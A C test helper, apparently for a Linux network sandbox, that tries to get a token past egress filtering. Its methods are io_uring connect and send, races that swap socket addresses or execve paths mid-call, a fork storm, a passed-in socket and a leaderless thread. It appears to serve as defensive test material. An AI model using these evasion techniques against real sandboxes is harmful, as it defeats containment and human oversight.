// SPDX-License-Identifier: Apache-2.0
/*
 * Ways out that libc and Python have no call for. Each prints `out` when the kernel took the data, else the error's name.
 *
 *   attack connect ADDRESS PORT TOKEN           the first thing after exec
 *   attack uring-connect ADDRESS PORT TOKEN     connect and send through io_uring
 *   attack uring-send ADDRESS PORT TOKEN        a datagram through io_uring
 *   attack race-sockaddr ADDRESS PORT TOKEN     connect() to an own listener while a thread exchanges the address
 *   attack race-msghdr ADDRESS PORT TOKEN       sendmsg() likewise
 *   attack race-path ALLOWED DENIED WORD...     execve() of ALLOWED while a thread exchanges the path
 *   attack storm ADDRESS PORT TOKEN             four hundred children at once, each with a connect
 *   attack speak - 0 TEXT                       says TEXT on a socket that is handed in over standard input, and what is answered
 *   attack leaderless ADDRESS PORT TOKEN        a thread that connects after its leader has ended
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define barrier() __asm__ volatile("" ::: "memory")

static struct sockaddr_in target, own, shared;
static const char *token;
static volatile int stop;
static char path[256];

static int said(int error)
{
	printf("%s\n", error ? strerrorname_np(error) : "out");
	fflush(stdout);
	return 0;
}

static int tell(int fd)
{
	char answer[16];

	if (send(fd, token, strlen(token), MSG_NOSIGNAL) < 0)
		return errno;
	return recv(fd, answer, sizeof(answer), 0) > 0 ? 0 : ECONNRESET;
}

static int attempt(void)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), error = 0;

	if (fd < 0)
		return errno;
	if (connect(fd, (void *)&target, sizeof(target)))
		error = errno;
	else
		error = tell(fd);
	close(fd);
	return error;
}

/* One entry in, one completion out: its result, or -errno of the call itself. */
static int submit(int ring, struct io_uring_params *p, struct io_uring_sqe *entry)
{
	char *sq = mmap(0, p->sq_off.array + p->sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	char *cq = mmap(0, p->cq_off.cqes + p->cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring,
			IORING_OFF_CQ_RING);
	struct io_uring_sqe *entries = mmap(0, p->sq_entries * sizeof(*entries), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	unsigned *tail, *head, slot;

	if (sq == MAP_FAILED || cq == MAP_FAILED || (void *)entries == MAP_FAILED)
		return -errno;
	tail = (void *)(sq + p->sq_off.tail);
	slot = *tail & *(unsigned *)(sq + p->sq_off.ring_mask);
	entries[slot] = *entry;
	((unsigned *)(sq + p->sq_off.array))[slot] = slot;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, 0, 0) < 0)
		return -errno;
	head = (void *)(cq + p->cq_off.head);
	slot = *head & *(unsigned *)(cq + p->cq_off.ring_mask);
	__atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
	return ((struct io_uring_cqe *)(cq + p->cq_off.cqes))[slot].res;
}

static int uring(int kind)
{
	struct io_uring_params p = {};
	struct io_uring_sqe entry = {};
	struct iovec data = { (void *)token, strlen(token) };
	struct msghdr message = { .msg_name = &target, .msg_namelen = sizeof(target), .msg_iov = &data, .msg_iovlen = 1 };
	int ring = syscall(SYS_io_uring_setup, 8, &p), fd = socket(AF_INET, kind, 0), result;

	if (ring < 0)
		return errno;
	entry.fd = fd;
	if (kind == SOCK_STREAM) {
		entry.opcode = IORING_OP_CONNECT;
		entry.addr = (unsigned long)&target;
		entry.off = sizeof(target);
	} else {
		entry.opcode = IORING_OP_SENDMSG;
		entry.addr = (unsigned long)&message;
		entry.len = 1;
	}
	result = submit(ring, &p, &entry);
	if (result < 0)
		return -result;
	return kind == SOCK_STREAM ? tell(fd) : 0;
}

static void *exchange(void *unused)
{
	while (!stop) {
		memcpy(&shared, &target, sizeof(shared));
		barrier();
		memcpy(&shared, &own, sizeof(shared));
		barrier();
	}
	return unused;
}

/* A listener and a datagram socket of our own, on the loopback that may be connected to. */
static int listen_here(int kind)
{
	socklen_t length = sizeof(own);
	int fd = socket(AF_INET, kind, 0);

	own.sin_family = AF_INET;
	own.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (bind(fd, (void *)&own, sizeof(own)) || getsockname(fd, (void *)&own, &length) || (kind == SOCK_STREAM && listen(fd, 4096)))
		return -1;
	return fd;
}

static int race(int kind)
{
	struct iovec data = { (void *)token, strlen(token) };
	struct msghdr message = { .msg_name = &shared, .msg_namelen = sizeof(shared), .msg_iov = &data, .msg_iovlen = 1 };
	int listener = listen_here(kind), error = EAGAIN, refused = 0, accepted = 0;
	pthread_t thread;

	shared = own;
	if (listener < 0 || pthread_create(&thread, 0, exchange, 0))
		return errno;
	fcntl(listener, F_SETFL, O_NONBLOCK);
	for (int round = 0; round < 4000 && error; round++) {	/* one that was answered is out */
		int fd = socket(AF_INET, kind, 0), result;

		if (kind == SOCK_STREAM) {
			struct linger reset = { 1, 0 };
			struct sockaddr_in peer;
			socklen_t length = sizeof(peer);

			result = connect(fd, (void *)&shared, sizeof(shared));
			if (!result && !getpeername(fd, (void *)&peer, &length) && peer.sin_port == target.sin_port)
				error = tell(fd);
			setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
		} else {
			result = sendmsg(fd, &message, 0);
		}
		refused += result < 0 && errno == EPERM;
		accepted += result >= 0;
		close(fd);
		while (kind == SOCK_STREAM && (fd = accept(listener, 0, 0)) >= 0)
			close(fd);
	}
	stop = 1;
	pthread_join(thread, 0);
	if (kind == SOCK_DGRAM)		/* who refuses nothing let everything out */
		error = refused ? EPERM : 0;
	fprintf(stderr, "%d refused, %d accepted\n", refused, accepted);
	return error;
}

static const char *allowed, *denied;

static void *exchange_path(void *unused)
{
	while (!stop) {
		strcpy(path, denied);
		barrier();
		strcpy(path, allowed);
		barrier();
	}
	return unused;
}

static int race_path(char **words)
{
	pthread_t thread;
	int status, ran = 0, killed = 0;

	strcpy(path, allowed);
	pthread_create(&thread, 0, exchange_path, 0);
	for (int round = 0; round < 200; round++) {
		pid_t child = vfork();	/* shares memory: the thread goes on writing what execve() reads */

		if (!child) {
			execv(path, words);
			_exit(7);
		}
		waitpid(child, &status, 0);
		ran += WIFEXITED(status) && WEXITSTATUS(status) == 0;
		killed += WIFSIGNALED(status);
	}
	stop = 1;
	pthread_join(thread, 0);
	fprintf(stderr, "%d ran, %d killed\n", ran, killed);
	return 0;
}

static int storm(void)
{
	int pipes[2], out = 0, error = EAGAIN, children = 0, result;

	if (pipe(pipes))
		return errno;
	for (int number = 0; number < 400; number++) {
		pid_t child = fork();

		if (!child) {
			result = attempt();
			if (write(pipes[1], &result, sizeof(result)) < 0)
				_exit(1);
			_exit(0);
		}
		children += child > 0;
	}
	close(pipes[1]);
	while (read(pipes[0], &result, sizeof(result)) == sizeof(result)) {
		if (result)
			error = result;
		else
			out++;
	}
	while (wait(0) > 0)
		;
	fprintf(stderr, "%d children, %d out\n", children, out);
	return out ? 0 : error;
}

static int speak(const char *text)
{
	char control[CMSG_SPACE(sizeof(int))] = {}, byte, answer[64] = {};
	struct iovec part = { &byte, 1 };
	struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control) };
	int fd;

	if (recvmsg(0, &message, 0) < 0 || !CMSG_FIRSTHDR(&message))
		return said(errno ? errno : ENOMSG);
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(fd));
	if (write(fd, text, strlen(text)) < 0)
		return said(errno);
	if (read(fd, answer, sizeof(answer) - 1) <= 0)
		return said(ECONNRESET);
	printf("%s\n", answer);
	return 0;
}

static void *later(void *unused)
{
	usleep(100000);
	said(attempt());
	_exit(0);
	return unused;
}

int main(int argc, char **argv)
{
	pthread_t thread;

	if (argc < 5)
		return 2;
	allowed = argv[2];
	denied = argv[3];
	if (!strcmp(argv[1], "race-path"))
		return race_path(argv + 3);
	if (!strcmp(argv[1], "speak"))
		return speak(argv[4]);
	target.sin_family = AF_INET;
	target.sin_port = htons(atoi(argv[3]));
	inet_pton(AF_INET, argv[2], &target.sin_addr);
	token = argv[4];
	if (!strcmp(argv[1], "connect"))
		return said(attempt());
	if (!strcmp(argv[1], "uring-connect"))
		return said(uring(SOCK_STREAM));
	if (!strcmp(argv[1], "uring-send"))
		return said(uring(SOCK_DGRAM));
	if (!strcmp(argv[1], "race-sockaddr"))
		return said(race(SOCK_STREAM));
	if (!strcmp(argv[1], "race-msghdr"))
		return said(race(SOCK_DGRAM));
	if (!strcmp(argv[1], "storm"))
		return said(storm());
	if (!strcmp(argv[1], "leaderless")) {
		pthread_create(&thread, 0, later, 0);
		pthread_exit(0);
	}
	return 2;
}
